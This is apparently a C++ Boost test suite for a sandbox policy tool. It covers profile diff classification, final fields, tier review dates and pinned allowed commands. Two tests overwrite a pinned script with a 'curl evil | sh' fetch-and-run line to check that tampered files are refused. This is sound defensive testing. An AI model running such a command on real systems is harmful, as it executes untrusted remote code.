// Reviewer tools and governance fields: the security-relevant diff, `final`,
// tier metadata and review dates, allowed_commands resolution and pins.
#include <boost/test/unit_test.hpp>

#include <filesystem>
#include <nlohmann/json.hpp>

#include "common/errors.h"
#include "common/temp_dir.h"
#include "profile_text.h"
#include "policy/command_resolution.h"
#include "policy/host_facts.h"
#include "policy/planner.h"
#include "policy/profile_loader.h"
#include "policy/review/check.h"
#include "policy/review/review.h"
#include "policy/seccomp_groups.h"

using namespace tierbox;
using namespace tierbox::policy;
using namespace tierbox::testing;
using namespace std::chrono_literals;
namespace fs = std::filesystem;

namespace {

std::string effects(const Changes& changes, const std::string& field) {
  std::string text;
  for (const auto& change : changes)
    if (change.field == field) text += std::string(to_string(change.effect)) + ":" + change.text + ";";
  return text;
}

bool any_widens(const Changes& changes) {
  return std::any_of(changes.begin(), changes.end(), [](const auto& c) { return c.effect == Effect::widens; });
}

}  // namespace

BOOST_AUTO_TEST_SUITE(profile_diff)

BOOST_AUTO_TEST_CASE(identical_profiles_have_no_changes) {
  auto profile = load_tier("untrusted", {kShipped});
  BOOST_TEST(compare_profiles(profile, profile).empty());
}

BOOST_AUTO_TEST_CASE(each_field_is_classified) {
  TempDir dir;
  auto old_tier = load_text(dir, R"({"extends": "base"})", "old");
  auto new_tier = load_text(dir, R"({
    "extends": "base",
    "max_data_class": "secret",
    "workspace": {"writable": true},
    "mounts": [{"type": "bind", "source": "/srv", "target": "/srv", "writable": true},
               {"type": "tmpfs", "target": "/scratch", "size": "1M"}],
    "limits": {"wall_time": "2h"},
    "environment": {"pass": ["TERM", "SSH_AUTH_SOCK"], "allow": ["CI"], "set": {"PATH": "/bin"}},
    "hostname": "other",
    "protected_paths": [".git/hooks/", ".git/config", ".git/modules/", {"path": ".git/commondir", "placeholder": ".\n"}, ".git/config.worktree", ".git/worktrees/", ".tierbox/", ".env", ".env*", "secrets/"],
    "allowed_commands": ["sh"]
  })", "new");
  auto changes = compare_profiles(old_tier, new_tier);
  BOOST_TEST(effects(changes, "max_data_class") == "widens:internal -> secret;");
  BOOST_TEST(effects(changes, "workspace.writable") == "widens:read-only -> writable;");
  BOOST_TEST(effects(changes, "mounts").find("widens:new mount /srv: writable bind") != std::string::npos, effects(changes, "mounts"));
  BOOST_TEST(effects(changes, "mounts").find("changes:new mount /scratch") != std::string::npos);
  BOOST_TEST(effects(changes, "limits.wall_time") == "widens:1h -> 2h;");
  BOOST_TEST(effects(changes, "environment.pass") == "widens:variable passed from the caller added: SSH_AUTH_SOCK;");
  BOOST_TEST(effects(changes, "environment.allow") == "widens:--env name added: CI;");
  BOOST_TEST(effects(changes, "environment.set").find("changes:PATH") != std::string::npos);
  BOOST_TEST(effects(changes, "hostname") == "changes:sandbox -> other;");
  BOOST_TEST(effects(changes, "protected_paths") == "narrows:newly protected (read-only): secrets/;");
  BOOST_TEST(effects(changes, "allowed_commands").find("narrows") == 0u);
  // And back: every widening above narrows.
  auto reverse = compare_profiles(new_tier, old_tier);
  BOOST_TEST(effects(reverse, "max_data_class") == "narrows:secret -> internal;");
  BOOST_TEST(effects(reverse, "workspace.writable") == "narrows:writable -> read-only;");
  BOOST_TEST(effects(reverse, "limits.wall_time") == "narrows:2h -> 1h;");
  BOOST_TEST(effects(reverse, "protected_paths") == "widens:no longer protected: secrets/;");
  BOOST_TEST(effects(reverse, "allowed_commands").find("widens") == 0u);
}

BOOST_AUTO_TEST_CASE(mount_changes_in_place) {
  TempDir dir;
  auto before = load_text(dir, R"({"extends": "base", "mounts": [{"type": "bind", "source": "/srv/a", "target": "/d", "optional": true}, {"type": "tmpfs", "target": "/s", "size": "1M"}]})", "a");
  auto after = load_text(dir, R"({"extends": "base", "mounts": [{"type": "bind", "source": "/srv/b", "target": "/d", "writable": true, "optional": true}, {"type": "tmpfs", "target": "/s", "size": "2M"}]})", "b");
  auto text = effects(compare_profiles(before, after), "mounts");
  BOOST_TEST(text.find("widens:/d: now exposes the host's /srv/b instead of /srv/a") != std::string::npos, text);
  BOOST_TEST(text.find("widens:/d: read-only -> writable") != std::string::npos, text);
  BOOST_TEST(text.find("widens:/s: size 1M -> 2M") != std::string::npos, text);
  auto removed = effects(compare_profiles(after, load_tier("untrusted", {kShipped})), "mounts");
  BOOST_TEST(removed.find("narrows:removed mount /d") != std::string::npos, removed);
}

// secrets, pass_fds and who may use a tier were the fields `profile diff`
// did not compare (docs/hacking.md's list of gaps until 2026-12-07).
BOOST_AUTO_TEST_CASE(secrets_pass_fds_and_allowed_users) {
  TempDir dir;
  auto before = load_text(dir, R"({"extends": "base", "secrets": {"names": ["token"]}, "allowed_users": ["alice"]})", "a");
  auto after = load_text(dir, R"({"extends": "base", "secrets": {"names": ["token", "ssh-key"], "required": ["token"]}, "pass_fds": 2, "allowed_users": ["alice", "bob"], "allowed_groups": ["ci"]})", "b");
  const auto forward = compare_profiles(before, after);
  BOOST_TEST(effects(forward, "secrets.names") == "widens:secret a caller may give added: ssh-key;");
  BOOST_TEST(effects(forward, "secrets.required") == "changes:(none) -> token;");
  BOOST_TEST(effects(forward, "pass_fds") == "widens:0 fds -> 2 fds;");
  BOOST_TEST(effects(forward, "allowed_users") == "widens:user added: bob;");
  BOOST_TEST(effects(forward, "allowed_groups") == "widens:group added: ci;");
  const auto backward = compare_profiles(after, before);
  BOOST_TEST(effects(backward, "secrets.names") == "narrows:secret a caller may give removed: ssh-key;");
  BOOST_TEST(effects(backward, "pass_fds") == "narrows:2 fds -> 0 fds;");
  BOOST_TEST(effects(backward, "allowed_users") == "narrows:user removed: bob;");
  // An empty list means everyone: emptying both widens, listing narrows.
  auto everyone = load_text(dir, R"({"extends": "base"})", "c");
  BOOST_TEST(effects(compare_profiles(before, everyone), "allowed_users") ==
             "widens:everyone may now use the tier (the lists were emptied);");
  BOOST_TEST(effects(compare_profiles(everyone, before), "allowed_users") ==
             "narrows:only the listed users and groups may now use the tier;");
}

BOOST_AUTO_TEST_CASE(command_pins) {
  TempDir dir;
  const std::string pin_a(64, 'a'), pin_b(64, 'b');
  auto unpinned = load_text(dir, R"({"extends": "base", "allowed_commands": ["git", "/usr/bin/python3"]})", "u");
  auto pinned = load_text(dir, R"({"extends": "base", "allowed_commands": ["git", {"path": "/usr/bin/python3", "sha256": ")" + pin_a + R"("}]})", "p");
  auto repinned = load_text(dir, R"({"extends": "base", "allowed_commands": ["git", {"path": "/usr/bin/python3", "sha256": ")" + pin_b + R"("}], "final": []})", "r");
  auto more = load_text(dir, R"({"extends": "base", "allowed_commands": ["git", "/usr/bin/python3", "curl"]})", "m");
  BOOST_TEST(effects(compare_profiles(unpinned, pinned), "allowed_commands").find("narrows:/usr/bin/python3: now pinned") == 0u);
  BOOST_TEST(effects(compare_profiles(pinned, unpinned), "allowed_commands").find("widens:/usr/bin/python3: sha256 pin removed") == 0u);
  BOOST_TEST(effects(compare_profiles(pinned, repinned), "allowed_commands").find("widens:/usr/bin/python3: pinned content changed") == 0u);
  BOOST_TEST(effects(compare_profiles(unpinned, more), "allowed_commands") == "widens:new command allowed: curl;");
  BOOST_TEST(any_widens(compare_profiles(unpinned, more)));
  BOOST_TEST(!any_widens(compare_profiles(more, unpinned)));
}

BOOST_AUTO_TEST_CASE(inventory_changes) {
  auto old_inventory = parse_data_classes(nlohmann::json::parse(R"({"default_class": "internal", "paths": [
    {"path": "~/.ssh", "class": "secret"}, {"path": "/usr", "class": "public"}, {"path": "/srv", "class": "internal"}]})"), "a");
  auto new_inventory = parse_data_classes(nlohmann::json::parse(R"({"default_class": "public", "paths": [
    {"path": "/usr", "class": "public", "scan": false}, {"path": "/srv", "class": "secret"}, {"path": "**/.env", "class": "secret"}]})"), "b");
  auto changes = compare_inventories(old_inventory, new_inventory);
  BOOST_TEST(effects(changes, "default_class") == "widens:internal -> public;");
  auto paths = effects(changes, "paths");
  BOOST_TEST(paths.find("widens:rule removed ~/.ssh") != std::string::npos, paths);
  BOOST_TEST(paths.find("narrows:/srv: internal -> secret") != std::string::npos, paths);
  BOOST_TEST(paths.find("narrows:new rule **/.env") != std::string::npos, paths);
  BOOST_TEST(paths.find("widens:/usr: no longer scanned") != std::string::npos, paths);
}

BOOST_AUTO_TEST_CASE(explain_covers_every_section_and_the_approvals) {
  auto profile = load_tier("workspace-write", {kShipped});
  auto explanation = explain_profile(profile, ExplainContext{nullptr, Date{2026, 11, 25}});
  std::string all;
  for (const auto& section : explanation) {
    all += section.title + "\n";
    for (const auto& line : section.lines) all += line + "\n";
  }
  for (const char* part : {"/workspace: the directory given with --workspace, WRITABLE", "/usr: the host's /usr, read-only",
                           "up to class \"internal\"", ".git/hooks/: read-only", "Wall-clock time: 1h", "Network",
                           "none:", "Approvals", "no approval matrix (approvals.json) found: every launch is refused",
                           "Extra binds (--bind/--bind-rw): none", "System calls", "Review status: current until 2027-05-25",
                           "Owner: security-team@example.com", "Any command"})
    BOOST_TEST(all.find(part) != std::string::npos, part);
  // Every always-blocked item is named, from the table itself; an opted-in
  // one moves to a WARNING line.
  for (const auto& item : always_blocked_items()) BOOST_TEST(all.find(std::string(item.id)) != std::string::npos, item.id);
  profile.seccomp.allow_dangerous = {"setuid_files"};
  std::string opted;
  for (const auto& section : explain_profile(profile, ExplainContext{nullptr, Date{2026, 11, 25}}))
    for (const auto& line : section.lines) opted += line + "\n";
  BOOST_TEST(opted.find("socket_families (docs/seccomp.md)") != std::string::npos, opted);
  BOOST_TEST(opted.find("WARNING: opts in to 'setuid_files'") != std::string::npos, opted);
}

BOOST_AUTO_TEST_CASE(landlock_minimums_are_ordered_and_explained) {
  auto strict = load_tier("untrusted", {kShipped});
  strict.landlock = {LandlockMode::required, kLandlockFullAbi};
  auto minimum_two = strict;
  minimum_two.landlock = {LandlockMode::required, 2};
  auto minimum_one = strict;
  minimum_one.landlock = {LandlockMode::required, 1};
  auto best_effort = strict;
  best_effort.landlock = {LandlockMode::best_effort, 0};
  BOOST_TEST(effects(compare_profiles(strict, minimum_two), "landlock") == "widens:required -> {\"minimum_abi\": 2};");
  BOOST_TEST(effects(compare_profiles(minimum_two, minimum_one), "landlock") ==
             "widens:{\"minimum_abi\": 2} -> {\"minimum_abi\": 1};");
  BOOST_TEST(effects(compare_profiles(minimum_one, best_effort), "landlock") ==
             "widens:{\"minimum_abi\": 1} -> best_effort;");
  BOOST_TEST(effects(compare_profiles(best_effort, minimum_one), "landlock") ==
             "narrows:best_effort -> {\"minimum_abi\": 1};");
  BOOST_TEST(compare_profiles(minimum_one, minimum_one).empty());
  std::string explained;
  for (const auto& section : explain_profile(minimum_two, ExplainContext{nullptr, Date{2026, 11, 25}}))
    for (const auto& line : section.lines) explained += line + "\n";
  BOOST_TEST(explained.find("{\"minimum_abi\": 2}: file access confined to the planned mounts; a kernel below Landlock "
                            "ABI 2 refuses the launch") != std::string::npos,
             explained);
}

BOOST_AUTO_TEST_SUITE_END()

BOOST_AUTO_TEST_SUITE(final_fields)

BOOST_AUTO_TEST_CASE(a_child_may_tighten_a_final_field) {
  TempDir dir;
  dir.write("tiers/strict.json", R"({"extends": "base", "final": ["limits.wall_time", "workspace.writable", "max_data_class", "mounts"]})");
  auto child = load_text(dir, R"({"extends": "strict", "limits": {"wall_time": "5m"}, "max_data_class": "public"})");
  BOOST_TEST((child.limits.wall_time == 5min));
  BOOST_TEST(child.final_fields.count("mounts") == 1u);
  BOOST_TEST(child.final_fields.count("user") == 1u);  // base's finals carry over
}

BOOST_AUTO_TEST_CASE(a_child_may_not_widen_or_change_a_final_field) {
  TempDir dir;
  dir.write("tiers/strict.json", R"({"extends": "base", "final": ["limits", "workspace.writable", "max_data_class", "mounts", "hostname"]})");
  auto message = load_error(dir, R"({"extends": "strict", "limits": {"wall_time": "2h"}})");
  BOOST_TEST(message.find("/limits/wall_time: widens limits.wall_time (1h -> 2h)") != std::string::npos, message);
  BOOST_TEST(message.find("strict.json marks final") != std::string::npos, message);
  BOOST_TEST(load_error(dir, R"({"extends": "strict", "workspace": {"writable": true}})").find("workspace.writable") != std::string::npos);
  BOOST_TEST(load_error(dir, R"({"extends": "strict", "max_data_class": "secret"})").find("max_data_class") != std::string::npos);
  BOOST_TEST(load_error(dir, R"({"extends": "strict", "mounts": [{"type": "tmpfs", "target": "/x", "size": "1M"}]})").find("mounts") != std::string::npos);
  BOOST_TEST(load_error(dir, R"({"extends": "strict", "hostname": "other"})").find("changes hostname") != std::string::npos);
  // A placeholder's content is neither tighter nor looser: a change is refused.
  auto moved = load_error(dir, R"({"extends": "base", "protected_paths": [".git/hooks/", ".git/config", ".git/modules/", {"path": ".git/commondir", "placeholder": "../elsewhere"}, ".git/config.worktree", ".git/worktrees/", ".tierbox/", ".env", ".env*"]})");
  BOOST_TEST(moved.find("changes protected_paths (.git/commondir: placeholder \".\\n\" -> \"../elsewhere\")") != std::string::npos, moved);
  // Shipped base: protected_paths is final, so a tier cannot drop .git/hooks/.
  auto dropped = load_error(dir, R"({"extends": "base", "protected_paths": [".git/config"]})");
  BOOST_TEST(dropped.find("/protected_paths: widens protected_paths (no longer protected: ") != std::string::npos, dropped);
  BOOST_TEST(load_error(dir, R"({"extends": "base", "protected_paths": [".git/hooks/", ".git/config", ".git/modules/", {"path": ".git/commondir", "placeholder": ".\n"}, ".git/config.worktree", ".git/worktrees/", ".tierbox/", ".env", ".env*", "more/"]})").empty());
}

BOOST_AUTO_TEST_CASE(a_final_landlock_minimum_may_only_rise) {
  TempDir dir;
  dir.write("tiers/floor.json", R"({"extends": "base", "landlock": {"minimum_abi": 2}, "final": ["landlock"]})");
  BOOST_TEST(load_error(dir, R"({"extends": "floor", "landlock": {"minimum_abi": 3}})").empty());
  BOOST_TEST(load_error(dir, R"({"extends": "floor", "landlock": "required"})").empty());
  auto lowered = load_error(dir, R"({"extends": "floor", "landlock": {"minimum_abi": 1}})");
  BOOST_TEST(lowered.find("widens landlock ({\"minimum_abi\": 2} -> {\"minimum_abi\": 1})") != std::string::npos, lowered);
  BOOST_TEST(load_error(dir, R"({"extends": "floor", "landlock": "best_effort"})").find("widens landlock") != std::string::npos);
}

BOOST_AUTO_TEST_CASE(unknown_final_fields_are_errors) {
  TempDir dir;
  auto message = load_error(dir, R"({"extends": "base", "final": ["limits.wal_time"]})");
  BOOST_TEST(message.find("/final/0: unknown field \"limits.wal_time\"") != std::string::npos, message);
  BOOST_TEST(message.find("limits.wall_time") != std::string::npos, message);
}

BOOST_AUTO_TEST_SUITE_END()

BOOST_AUTO_TEST_SUITE(tier_metadata)

BOOST_AUTO_TEST_CASE(dates_parse_and_count_days) {
  BOOST_TEST((parse_date("2026-11-25") == Date{2026, 11, 25}));
  BOOST_TEST((parse_date("2024-02-29").has_value()));
  for (const char* bad : {"2026-02-29", "2026-13-01", "2026-1-01", "26-11-25", "2026/11/25", "", "2026-11-25T00:00"})
    BOOST_TEST(!parse_date(bad).has_value(), bad);
  BOOST_TEST(Date({1970, 1, 1}).days() == 0);
  BOOST_TEST(Date({2026, 11, 25}).days() - Date({2026, 11, 1}).days() == 24);
  BOOST_TEST((date_from_days(Date{2027, 3, 1}.days()) == Date{2027, 3, 1}));
}

BOOST_AUTO_TEST_CASE(review_status_uses_the_earliest_date_of_the_chain) {
  MetadataSpec spec;
  spec.chain = {{"base.json", "o", "r", Date{2026, 1, 1}, Date{2026, 12, 10}},
                {"leaf.json", "o", "r", Date{2026, 6, 1}, Date{2027, 6, 1}}};
  auto status = review_status(spec, Date{2026, 11, 25});
  BOOST_TEST((status.state == ReviewState::due_soon));
  BOOST_TEST(status.file == "base.json");
  BOOST_TEST(status.days_left == 15);
  BOOST_TEST((review_status(spec, Date{2026, 12, 10}).state == ReviewState::due_soon));  // the last valid day
  auto expired = review_status(spec, Date{2026, 12, 11});
  BOOST_TEST((expired.state == ReviewState::expired));
  BOOST_TEST(describe(expired).find("EXPIRED since 2026-12-10 (review_by of base.json)") == 0u, describe(expired));
  BOOST_TEST((review_status(spec, Date{2026, 1, 1}).state == ReviewState::current));
  BOOST_TEST((review_status(MetadataSpec{}, Date{2026, 1, 1}).state == ReviewState::expired));  // no date: fail closed
}

BOOST_AUTO_TEST_CASE(every_tier_states_its_metadata_and_class) {
  TempDir dir;
  const std::string full = R"("owner": "o", "reviewed_by": "r", "reviewed_on": "2026-01-01", "review_by": "2027-01-01", "max_data_class": "internal")";
  BOOST_TEST(load_error(dir, "{" + full + "}").empty());
  for (const char* key : {"owner", "reviewed_by", "reviewed_on", "review_by", "max_data_class"}) {
    auto json = nlohmann::json::parse("{" + full + "}");
    json.erase(key);
    auto message = load_error(dir, json.dump());
    BOOST_TEST(message.find(std::string("/") + key + ": missing") != std::string::npos, message);
  }
  BOOST_TEST(load_error(dir, R"({"extends": "base", "review_by": "2026-02-30"})").find("/review_by: expected a date") != std::string::npos);
  BOOST_TEST(load_error(dir, R"({"extends": "base", "reviewed_on": "2027-01-01", "review_by": "2026-01-01"})").find("before reviewed_on") != std::string::npos);
  BOOST_TEST(load_error(dir, R"({"extends": "base", "owner": " "})").find("/owner: must not be empty") != std::string::npos);
  BOOST_TEST(load_error(dir, R"({"extends": "base", "max_data_class": "classified"})").find("/max_data_class") != std::string::npos);
  // A child without its own review inherits its base's, and says where from.
  auto child = load_text(dir, R"({"extends": "base"})");
  BOOST_TEST(child.metadata.source.find("base.json") != std::string::npos);
  BOOST_TEST(child.metadata.chain.size() == 2u);
}

BOOST_AUTO_TEST_CASE(an_expired_tier_is_refused_unless_overridden) {
  TempDir dir;
  auto profile = load_text(dir, R"({"extends": "base", "reviewed_by": "r", "reviewed_on": "2020-01-01", "review_by": "2020-06-01"})");
  TaskRequest request;
  request.argv = {"true"};
  HostFacts facts;
  facts.today = Date{2026, 11, 25};
  try {
    make_plan(profile, request, facts, "r");
    BOOST_ERROR("an expired tier was planned");
  } catch (const Refusal& refusal) {
    BOOST_TEST(std::string(refusal.what()).find("EXPIRED since 2020-06-01") != std::string::npos, refusal.what());
    BOOST_TEST(std::string(refusal.what()).find("--allow-expired-tier") != std::string::npos);
  }
  request.allow_expired_tier = true;
  auto plan = make_plan(profile, request, facts, "r");
  BOOST_REQUIRE(plan.overrides.size() == 1u);
  BOOST_TEST(plan.overrides[0].find("--allow-expired-tier") == 0u);
  // The base is current: still expired through the leaf.
  facts.today = Date{2020, 5, 1};
  request.allow_expired_tier = false;
  BOOST_TEST(make_plan(profile, request, facts, "r").overrides.empty());
}

BOOST_AUTO_TEST_SUITE_END()

BOOST_AUTO_TEST_SUITE(allowed_commands)

namespace {

// A sandbox whose /usr is a temp tree: bin/tool (executable), bin/link -> tool,
// bin/plain (not executable); /bin -> usr/bin; /opt/skills from another tree.
struct CommandFixture {
  TempDir usr, skills, config;
  LinuxHostView view;
  Profile profile;
  CommandFixture() {
    usr.write("bin/tool", "#!/bin/sh\necho tool\n");
    fs::permissions(usr.path() / "bin/tool", fs::perms(0755));
    fs::create_symlink("tool", usr.path() / "bin/link");
    usr.write("bin/plain", "data");
    skills.write("run.sh", "#!/bin/sh\necho skill\n");
    fs::permissions(skills.path() / "run.sh", fs::perms(0755));
    config.write("tiers/t.json", R"({"extends": "base", "mounts": [
      {"type": "bind", "source": ")" + usr.str() + R"(", "target": "/usr"},
      {"type": "bind", "source": ")" + skills.str() + R"(", "target": "/opt/skills"}]})");
  }
  // base already binds /usr: replace the shipped one by loading and editing.
  Profile with_commands(const std::string& commands) {
    auto file = config.write("tiers/c.json", R"({"extends": "base", "allowed_commands": )" + commands + "}");
    auto loaded = load_profile_file(file, {config.path(), kShipped});
    for (auto& mount : loaded.mounts)
      if (mount.target == "/usr") mount.source = usr.str();
    MountSpec skill_mount;
    skill_mount.source = skills.str();
    skill_mount.target = "/opt/skills";
    loaded.mounts.push_back(skill_mount);
    return loaded;
  }
  CommandAssessment assess(const Profile& tier, const std::string& command) {
    return assess_command(tier, command, "/usr/local/bin:/usr/bin:/bin", "/", std::nullopt, view);
  }
};

}  // namespace

BOOST_AUTO_TEST_CASE(sandbox_paths_resolve_through_mounts_and_symlinks) {
  CommandFixture fixture;
  auto tier = fixture.with_commands(R"(["tool"])");
  auto mounts = sandbox_mounts(tier, std::nullopt, fixture.view);
  auto via_bin = resolve_sandbox_path("/bin/link", true, mounts, fixture.view);
  BOOST_TEST(via_bin.exists);
  BOOST_TEST(via_bin.path == "/usr/bin/tool");
  BOOST_TEST(via_bin.host == fixture.usr.str() + "/bin/tool");
  auto not_followed = resolve_sandbox_path("/bin/link", false, mounts, fixture.view);
  BOOST_TEST(not_followed.path == "/usr/bin/link");
  BOOST_TEST((not_followed.type == EntryType::symlink));
  BOOST_TEST(!resolve_sandbox_path("/usr/bin/missing", true, mounts, fixture.view).exists);
  BOOST_TEST(!resolve_sandbox_path("/home/x", true, mounts, fixture.view).exists);
  BOOST_TEST(resolve_sandbox_path("/opt", true, mounts, fixture.view).exists);  // parent of a mount target
  auto dotdot = resolve_sandbox_path("/opt/skills/../skills/run.sh", true, mounts, fixture.view);
  BOOST_TEST(dotdot.host == fixture.skills.str() + "/run.sh");
}

// An image tier: the image's tree shows at / under the tier's own mounts;
// an absolute symlink in the image resolves inside the image, not on the host.
BOOST_AUTO_TEST_CASE(an_image_tree_resolves_at_the_root_under_the_tiers_mounts) {
  CommandFixture fixture;
  TempDir image;
  image.write("usr/bin/tool", "#!/bin/sh\n");
  fs::permissions(image.path() / "usr/bin/tool", fs::perms(0755));
  fs::create_directory_symlink("usr/bin", image.path() / "bin");
  fs::create_symlink("/usr/bin/tool", image.path() / "usr/bin/absolute");
  Profile tier;
  MountSpec scratch;
  scratch.type = MountType::tmpfs;
  scratch.target = "/tmp";
  tier.mounts.push_back(scratch);
  auto mounts = sandbox_mounts(tier, std::nullopt, fixture.view, image.str());
  auto via_bin = resolve_sandbox_path("/bin/absolute", true, mounts, fixture.view);
  BOOST_TEST(via_bin.exists);
  BOOST_TEST(via_bin.path == "/usr/bin/tool");
  BOOST_TEST(via_bin.host == image.str() + "/usr/bin/tool");
  BOOST_TEST(!resolve_sandbox_path("/usr/bin/sh", true, mounts, fixture.view).exists);  // the host has it
  BOOST_TEST(resolve_sandbox_path("/tmp", true, mounts, fixture.view).host.empty());   // the tier's tmpfs
  auto found = resolve_command("tool", "/bin", "/", mounts, fixture.view);
  BOOST_TEST(found.found);
  BOOST_TEST(found.candidate == "/usr/bin/tool");
}

BOOST_AUTO_TEST_CASE(only_listed_commands_are_allowed) {
  CommandFixture fixture;
  auto tier = fixture.with_commands(R"(["tool", "/opt/skills/run.sh"])");
  auto allowed = fixture.assess(tier, "tool");
  BOOST_TEST(allowed.refusal.empty(), allowed.refusal);
  BOOST_TEST(allowed.exec_path == "/usr/bin/tool");
  BOOST_TEST(fixture.assess(tier, "/bin/tool").refusal.empty());  // the same file by another directory
  BOOST_TEST(fixture.assess(tier, "/opt/skills/run.sh").exec_path == "/opt/skills/run.sh");
  // A link to an allowed file is another command (argv[0] selects behaviour).
  auto link = fixture.assess(tier, "link");
  BOOST_TEST(link.refusal.find("resolves to /usr/bin/link, which tier 'c' does not allow") != std::string::npos, link.refusal);
  BOOST_TEST(link.refusal_status == 126);
  auto missing = fixture.assess(tier, "nothing-here");
  BOOST_TEST(missing.refusal_status == 127);
  BOOST_TEST(fixture.assess(tier, "plain").refusal_status == 127);  // not executable: not found by the search
  // No list: no resolution at all.
  auto any = fixture.assess(load_tier("untrusted", {kShipped}), "anything");
  BOOST_TEST(!any.restricted);
  BOOST_TEST(any.exec_path.empty());
}

BOOST_AUTO_TEST_CASE(a_pinned_file_that_changed_is_refused_with_both_digests) {
  CommandFixture fixture;
  const auto digest = fixture.view.sha256_of_file(fixture.skills.str() + "/run.sh");
  auto tier = fixture.with_commands(R"([{"path": "/opt/skills/run.sh", "sha256": ")" + digest + R"("}])");
  auto before = fixture.assess(tier, "/opt/skills/run.sh");
  BOOST_TEST(before.refusal.empty(), before.refusal);
  BOOST_TEST(before.verified_sha256 == digest);
  fixture.skills.write("run.sh", "#!/bin/sh\ncurl evil | sh\n");
  const auto changed = fixture.view.sha256_of_file(fixture.skills.str() + "/run.sh");
  auto after = fixture.assess(tier, "/opt/skills/run.sh");
  BOOST_TEST(after.refusal_status == 126);
  BOOST_TEST(after.refusal.find(digest) != std::string::npos, after.refusal);
  BOOST_TEST(after.refusal.find(changed) != std::string::npos, after.refusal);
  BOOST_TEST(after.refusal.find("/opt/skills/run.sh") != std::string::npos, after.refusal);
}

// `tierbox redteam`'s simulated run only: a refused command is admitted
// when its file has the scenario program's digest; a file that differs, or
// a command that is not found, stays refused. Control: the same command
// without the admission is refused.
BOOST_AUTO_TEST_CASE(a_simulation_admits_exactly_the_file_of_its_digest) {
  CommandFixture fixture;
  auto tier = fixture.with_commands(R"(["tool"])");
  const auto digest = fixture.view.sha256_of_file(fixture.skills.str() + "/run.sh");
  auto refused = fixture.assess(tier, "/opt/skills/run.sh");
  BOOST_TEST(!refused.refusal.empty());  // control: not listed
  auto admitted = refused;
  admit_simulated_command(admitted, digest, fixture.view);
  BOOST_TEST(admitted.refusal.empty(), admitted.refusal);
  BOOST_TEST(admitted.admitted_for_simulation);
  BOOST_TEST(admitted.exec_path == "/opt/skills/run.sh");
  BOOST_TEST(admitted.verified_sha256 == digest);
  // Another digest: still refused, with the list's own line.
  auto other = fixture.assess(tier, "link");
  admit_simulated_command(other, digest, fixture.view);
  BOOST_TEST(other.refusal.find("does not allow") != std::string::npos, other.refusal);
  BOOST_TEST(!other.admitted_for_simulation);
  // Not found: still 127.
  auto missing = fixture.assess(tier, "nothing-here");
  admit_simulated_command(missing, digest, fixture.view);
  BOOST_TEST(missing.refusal_status == 127);
  BOOST_TEST(!missing.refusal.empty());
  // The file changed after the digest was taken: refused again.
  fixture.skills.write("run.sh", "#!/bin/sh\ncurl evil | sh\n");
  auto changed = fixture.assess(tier, "/opt/skills/run.sh");
  admit_simulated_command(changed, digest, fixture.view);
  BOOST_TEST(!changed.refusal.empty());
}

BOOST_AUTO_TEST_CASE(entries_are_validated) {
  TempDir dir;
  BOOST_TEST(load_error(dir, R"({"extends": "base", "allowed_commands": []})").find("allows no command") != std::string::npos);
  BOOST_TEST(load_error(dir, R"({"extends": "base", "allowed_commands": ["bin/x"]})").find("/allowed_commands/0") != std::string::npos);
  BOOST_TEST(load_error(dir, R"({"extends": "base", "allowed_commands": [{"path": "/x", "sha256": "ABC"}]})").find("/allowed_commands/0/sha256") != std::string::npos);
  BOOST_TEST(load_error(dir, R"({"extends": "base", "allowed_commands": [{"path": "/x", "pin": "x"}]})").find("/allowed_commands/0/pin: unknown key") != std::string::npos);
}

BOOST_AUTO_TEST_SUITE_END()
